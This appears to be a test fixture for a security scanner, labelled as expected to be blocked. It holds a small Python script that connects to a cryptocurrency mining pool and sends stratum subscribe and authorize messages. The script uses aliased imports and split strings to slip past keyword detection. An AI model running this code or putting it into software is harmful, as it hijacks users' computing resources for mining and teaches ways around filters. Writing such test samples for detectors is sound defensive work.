# expect: BLOCKED category: miner variant-of: risky/miner/stratum_socket.py technique: alias+concat
import json as _m0
import socket as _m1
pool = _m1.create_connection(('pool.' + 'minex' + 'mr.co' + 'm', 4444))
pool.sendall(_m0.dumps({'i' + 'd': 1, 'me' + 'th' + 'od': 'minin' + 'g.sub' + 'scrib' + 'e', 'pa' + 'ra' + 'ms': []}).encode() + b'\n')
pool.sendall(_m0.dumps({'i' + 'd': 2, 'me' + 'th' + 'od': 'minin' + 'g.aut' + 'horiz' + 'e', 'pa' + 'ra' + 'ms': ['wo' + 'rk' + 'er' + '1', 'x']}).encode() + b'\n')
print(pool.recv(4096))
